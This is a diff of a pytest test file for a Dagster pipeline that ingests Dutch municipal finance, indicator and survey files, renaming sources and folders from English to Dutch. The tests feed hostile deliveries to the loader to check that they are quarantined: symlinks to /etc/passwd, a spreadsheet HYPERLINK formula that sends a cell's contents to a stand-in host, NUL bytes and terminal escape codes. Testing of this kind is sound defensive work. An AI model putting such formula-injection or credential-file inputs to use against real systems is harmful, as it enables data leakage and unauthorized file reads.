@@ -17,8 +17,8 @@ import pytest
 
 from dagster_project.ingest import loading
 from dagster_project.ingest.loading import load_source
-from dagster_project.sources.finance import LEDGER, MUNICIPAL_TOTALS
-from dagster_project.sources.indicators import VALUES
+from dagster_project.sources.financien import GEMEENTETOTALEN, GROOTBOEK
+from dagster_project.sources.indicatoren import WAARDEN
 
 from .conftest import LEDGER_HEADER, ledger_line, quarantine, query, run_nightly, write_csv
 
@@ -66,23 +66,23 @@ def test_a_link_is_never_followed_nor_copied(paths, ledger_dir, tmp_path):
     (ledger_dir / "financien_2021.csv").symlink_to(outside)
     (ledger_dir / "passwd.csv").symlink_to("/etc/passwd")
 
-    report = load_source(LEDGER, paths)
+    report = load_source(GROOTBOEK, paths)
     assert [(f.file_name, f.status) for f in report.files] == [
         ("financien_2021.csv", "quarantined"), ("passwd.csv", "quarantined")]
     reason = "a symbolic link, not a delivered file: links are never followed and nothing was copied"
     assert problems(paths) == [(None, None, str(outside), reason), (None, None, "/etc/passwd", reason)]
-    assert query(paths.build_db, "SELECT count(*) FROM raw.finance_ledger_lines") == [(0,)]
+    assert query(paths.build_db, "SELECT count(*) FROM raw.financien_grootboek") == [(0,)]
     assert not paths.quarantine_dir.exists() or list(paths.quarantine_dir.iterdir()) == []
     # Recorded once: the next run sees the same links as unchanged.
-    assert [f.status for f in load_source(LEDGER, paths).files] == ["unchanged", "unchanged"]
+    assert [f.status for f in load_source(GROOTBOEK, paths).files] == ["unchanged", "unchanged"]
 
 
 def test_a_folder_inside_a_source_folder_is_recorded_not_read(paths, ledger_dir):
     write_csv(ledger_dir / "archief" / "financien_2020.csv", [ledger_line(jaar="2020")])
-    report = load_source(LEDGER, paths)
+    report = load_source(GROOTBOEK, paths)
     assert [(f.file_name, f.status) for f in report.files] == [("archief", "quarantined")]
     assert problems(paths) == [(None, None, "archief/", "a folder inside the source folder: files in it are not read")]
-    assert query(paths.build_db, "SELECT expected FROM raw.quarantine") == [("files directly in finance/ledger/",)]
+    assert query(paths.build_db, "SELECT expected FROM raw.quarantine") == [("files directly in financien/grootboek/",)]
 
 
 # --- files that are not what their name says, and other encodings ------------------------------------------
@@ -111,7 +111,7 @@ NOT_TEXT = "a text file in UTF-8 or Windows-1252"
 ])
 def test_a_file_that_is_not_what_its_name_says_gets_one_clear_reason(paths, ledger_dir, name, content, reason):
     (ledger_dir / name).write_bytes(content)
-    [outcome] = load_source(LEDGER, paths).files
+    [outcome] = load_source(GROOTBOEK, paths).files
     assert outcome.status == "quarantined"
     assert problems(paths) == [(None, None, None, reason)]
 
@@ -121,7 +121,7 @@ def test_a_zip_archive_named_xlsx_is_not_a_workbook(paths, ledger_dir):
 
     with zipfile.ZipFile(ledger_dir / "financien_2021.xlsx", "w") as archive:
         archive.writestr("financien_2021.csv", ledger_csv())
-    load_source(LEDGER, paths)
+    load_source(GROOTBOEK, paths)
     assert problems(paths) == [
         (None, None, None, "the file is a ZIP archive but not an Excel workbook (it has no xl/workbook.xml)")]
 
@@ -131,25 +131,26 @@ def test_a_zip_archive_named_xlsx_is_not_a_workbook(paths, ledger_dir):
 def test_a_nul_byte_in_a_text_field_quarantines_and_supersedes_nothing(paths, ledger_dir):
     write_csv(ledger_dir / "financien_2021_a.csv", [ledger_line()])
     (ledger_dir / "financien_2021_b.csv").write_bytes(ledger_csv(kostenplaats="Jeugdhulp\x00Zorg", bedrag="-1,00"))
-    report = load_source(LEDGER, paths)
+    report = load_source(GROOTBOEK, paths)
     assert [(f.file_name, f.status) for f in report.files] == [
         ("financien_2021_a.csv", "loaded"), ("financien_2021_b.csv", "quarantined")]
     assert problems(paths) == [
         (2, "kostenplaats", "Jeugdhulp\u2400Zorg", "a NUL byte in the value (shown as ␀): a damaged file or not a "
                                                    "text export")]
-    assert query(paths.build_db, "SELECT DISTINCT file_name FROM raw.finance_ledger_lines") == [("financien_2021_a.csv",)]
+    assert query(paths.build_db, "SELECT DISTINCT file_name FROM raw.financien_grootboek") == [
+        ("financien_2021_a.csv",)]
 
 
 def test_other_control_characters_are_shown_as_symbols(paths, ledger_dir):
     (ledger_dir / "financien_2021.csv").write_bytes(ledger_csv(kostenplaats="Jeugdhulp\x1b[31mZorg"))
-    load_source(LEDGER, paths)
+    load_source(GROOTBOEK, paths)
     assert problems(paths) == [
         (2, "kostenplaats", "Jeugdhulp␛[31mZorg", "a control character in the value (shown as a symbol such as ␛)")]
 
 
 def test_a_very_long_value_is_quarantined_and_shown_cut_off(paths, ledger_dir):
     (ledger_dir / "financien_2021.csv").write_bytes(ledger_csv(kostenplaats="x" * 5000))
-    load_source(LEDGER, paths)
+    load_source(GROOTBOEK, paths)
     [(row, column, value, reason)] = problems(paths)
     assert (row, column, reason) == (2, "kostenplaats", "the value is 5000 characters long")
     assert value == "x" * 200 + "… (5000 characters)"
@@ -159,7 +160,7 @@ def test_a_very_long_value_is_quarantined_and_shown_cut_off(paths, ledger_dir):
 
 def test_a_line_longer_than_the_reader_takes_is_a_file_problem(paths, ledger_dir):
     (ledger_dir / "financien_2021.csv").write_bytes(ledger_csv(kostenplaats="x" * (20 << 20)))
-    [outcome] = load_source(LEDGER, paths).files
+    [outcome] = load_source(GROOTBOEK, paths).files
     assert outcome.status == "quarantined"
     assert problems(paths) == [
         (None, None, None, "a line is longer than 4 MB: a damaged file, or a value missing its closing quote")]
@@ -174,14 +175,14 @@ def test_a_line_longer_than_the_reader_takes_is_a_file_problem(paths, ledger_dir
 ])
 def test_impossible_ledger_values(paths, ledger_dir, overrides, problem):
     (ledger_dir / "financien.csv").write_bytes(ledger_csv(**overrides))
-    load_source(LEDGER, paths)
+    load_source(GROOTBOEK, paths)
     assert problems(paths) == [problem]
 
 
 def test_an_unknown_gemeente_in_the_totals_is_an_unknown_gemeente(paths):
     line = dict(gemeente_code="gm0999", jaar="2021", fase="rekening", uitgaven="-1,00", inkomsten="1,00")
-    write_csv(paths.landing_dir / "finance" / "municipal_totals" / "t.csv", [line], header=TOTALS_HEADER)
-    load_source(MUNICIPAL_TOTALS, paths)
+    write_csv(paths.landing_dir / "financien" / "gemeentetotalen" / "t.csv", [line], header=TOTALS_HEADER)
+    load_source(GEMEENTETOTALEN, paths)
     assert problems(paths) == [
         (2, "gemeente_code", "gm0999", "unknown gemeente: GM0999 is not in seeds/reference/gemeenten.csv")]
 
@@ -193,9 +194,9 @@ def test_an_unknown_gemeente_in_the_totals_is_an_unknown_gemeente(paths):
     ("27/01/2022", "not a valid datum"),
 ])
 def test_impossible_dates(paths, peildatum, reason):
-    write_csv(paths.landing_dir / "indicators" / "values" / "v.csv", [indicator_line(peildatum=peildatum)],
+    write_csv(paths.landing_dir / "indicatoren" / "waarden" / "v.csv", [indicator_line(peildatum=peildatum)],
               header=INDICATOR_HEADER)
-    load_source(VALUES, paths)
+    load_source(WAARDEN, paths)
     assert problems(paths) == [(2, "peildatum", peildatum, reason)]
 
 
@@ -204,16 +205,16 @@ def test_an_xlsx_amount_with_three_decimals_is_quarantined(paths, ledger_dir):
     workbook.active.append(list(LEDGER_HEADER))
     workbook.active.append([*[ledger_line()[h] for h in LEDGER_HEADER[:-1]], 1234.567])
     workbook.save(ledger_dir / "financien.xlsx")
-    load_source(LEDGER, paths)
+    load_source(GROOTBOEK, paths)
     assert problems(paths) == [(2, "bedrag", "1234,567", "more than 2 decimals")]
 
 
 def test_spreadsheet_formula_text_is_stored_verbatim(paths, ledger_dir):
     formula = '=HYPERLINK("http://voorbeeld.nl/?d="&A1;"klik")'
     write_csv(ledger_dir / "financien.csv", [ledger_line(kostenplaats='"' + formula.replace('"', '""') + '"')])
-    [outcome] = load_source(LEDGER, paths).files
+    [outcome] = load_source(GROOTBOEK, paths).files
     assert outcome.status == "loaded"
-    assert query(paths.build_db, "SELECT kostenplaats FROM raw.finance_ledger_lines") == [(formula,)]
+    assert query(paths.build_db, "SELECT kostenplaats FROM raw.financien_grootboek") == [(formula,)]
 
 
 # --- files still being written --------------------------------------------------------------------------
@@ -224,21 +225,21 @@ def test_a_file_still_being_written_is_skipped_and_loaded_by_a_later_run(paths, 
     os.utime(old, (AN_HOUR_AGO, AN_HOUR_AGO))
     fresh = write_csv(ledger_dir / "financien_2021.csv", [ledger_line()])
 
-    report = load_source(LEDGER, paths)
+    report = load_source(GROOTBOEK, paths)
     assert [(f.file_name, f.status) for f in report.files] == [
         ("financien_2020.csv", "loaded"), ("financien_2021.csv", "skipped")]
     assert report.files[1].note.startswith("still being written (changed ")
     assert query(paths.build_db, "SELECT file_name FROM raw.load_log") == [("financien_2020.csv",)]
 
     os.utime(fresh, (AN_HOUR_AGO, AN_HOUR_AGO))  # the copy has finished long ago
-    assert [f.status for f in load_source(LEDGER, paths).files] == ["unchanged", "loaded"]
+    assert [f.status for f in load_source(GROOTBOEK, paths).files] == ["unchanged", "loaded"]
 
 
 def test_a_file_that_changes_while_it_is_read_is_skipped(paths, ledger_dir, monkeypatch):
     write_csv(ledger_dir / "financien_2021.csv", [ledger_line()])
     # The content hashed first is not the content copied next: the file is still growing.
     monkeypatch.setattr(loading, "content_digest", lambda path: "0" * 64)
-    [outcome] = load_source(LEDGER, paths).files
+    [outcome] = load_source(GROOTBOEK, paths).files
     assert (outcome.status, outcome.note) == (
         "skipped", "still being written (it changed while it was read), skipped: a later run loads it")
     assert query(paths.build_db, "SELECT count(*) FROM raw.load_log") == [(0,)]
@@ -250,7 +251,7 @@ def test_leftovers_of_a_killed_run_are_removed(paths, ledger_dir):
     incoming.mkdir(parents=True)
     (incoming / "999999999-0123.part").write_bytes(b"half a file")  # no such process
     write_csv(ledger_dir / "financien_2021.csv", [ledger_line()])
-    load_source(LEDGER, paths)
+    load_source(GROOTBOEK, paths)
     assert list(incoming.iterdir()) == []
 
 
@@ -266,21 +267,21 @@ def first_line_changed(path, column: int, value: bytes) -> bytes:
 
 def hostile_files(landing) -> dict[str, bytes]:
     """Bad deliveries for each of the six sources (folder-relative path -> content)."""
-    ceo = landing / "surveys" / "ceo" / "ceo_GM0637_2019.csv"
-    omnibus = landing / "surveys" / "omnibus" / "omnibus_GM0637_2019.csv"
+    ceo = landing / "enquetes" / "ceo" / "ceo_GM0637_2019.csv"
+    omnibus = landing / "enquetes" / "omnibus" / "omnibus_GM0637_2019.csv"
     return {
-        "finance/ledger/zz_financien_2021_rekening_nul.csv": ledger_csv(kostenplaats="Jeugd\x00hulp"),
-        "finance/ledger/zz_financien_2021_rekening_gm9999.csv": ledger_csv(gemeente_code="GM9999"),
-        "finance/municipal_totals/zz_gemeentetotalen_utf16.csv": write_csv_bytes(
+        "financien/grootboek/zz_financien_2021_rekening_nul.csv": ledger_csv(kostenplaats="Jeugd\x00hulp"),
+        "financien/grootboek/zz_financien_2021_rekening_gm9999.csv": ledger_csv(gemeente_code="GM9999"),
+        "financien/gemeentetotalen/zz_gemeentetotalen_utf16.csv": write_csv_bytes(
             [dict(gemeente_code="GM0637", jaar="2021", fase="rekening", uitgaven="-1,00", inkomsten="1,00")],
             header=TOTALS_HEADER).decode().encode("utf-16"),
-        "indicators/values/zz_indicatoren_datum.csv": write_csv_bytes(
+        "indicatoren/waarden/zz_indicatoren_datum.csv": write_csv_bytes(
             [indicator_line(peildatum="31-02-2022", waarde="1")], header=INDICATOR_HEADER),
-        "surveys/satisfaction/zz_inzet_2024.csv": gzip.compress(b"gemeente_code;onderzoek;jaar;respondent_id;cijfer\n"),
-        "surveys/satisfaction/zz_mto_2024.xlsx": ledger_xlsx()[:3000],
-        "surveys/ceo/zz_ceo_2024.xlsx": ceo.read_bytes(),
-        "surveys/ceo/zz_ceo_2024_lang.csv": first_line_changed(ceo, 2, b"x" * 2000),
-        "surveys/omnibus/zz_omnibus_2150.csv": first_line_changed(omnibus, 1, b"2150"),
+        "enquetes/tevredenheid/zz_inzet_2024.csv": gzip.compress(b"gemeente_code;onderzoek;jaar;respondent_id\n"),
+        "enquetes/tevredenheid/zz_mto_2024.xlsx": ledger_xlsx()[:3000],
+        "enquetes/ceo/zz_ceo_2024.xlsx": ceo.read_bytes(),
+        "enquetes/ceo/zz_ceo_2024_lang.csv": first_line_changed(ceo, 2, b"x" * 2000),
+        "enquetes/omnibus/zz_omnibus_2150.csv": first_line_changed(omnibus, 1, b"2150"),
     }
 
 
@@ -311,10 +312,10 @@ def test_hostile_files_in_every_source_never_change_the_published_marts(sample_r
     for relative, content in hostile_files(paths.landing_dir).items():
         (paths.landing_dir / relative).write_bytes(content)
         os.utime(paths.landing_dir / relative, (AN_HOUR_AGO, AN_HOUR_AGO))
-    (paths.landing_dir / "finance" / "ledger" / "zz_link.csv").symlink_to("/etc/passwd")
-    (paths.landing_dir / "finance" / "municipal_totals" / "oud").mkdir()
+    (paths.landing_dir / "financien" / "grootboek" / "zz_link.csv").symlink_to("/etc/passwd")
+    (paths.landing_dir / "financien" / "gemeentetotalen" / "oud").mkdir()
     # A valid correction still being copied in: loading it would change the 2021 figures.
-    write_csv(paths.landing_dir / "finance" / "ledger" / "zz_financien_2021_rekening_nieuw.csv", [ledger_line()])
+    write_csv(paths.landing_dir / "financien" / "grootboek" / "zz_financien_2021_rekening_nieuw.csv", [ledger_line()])
 
     result = run_nightly(paths)
     assert result.success
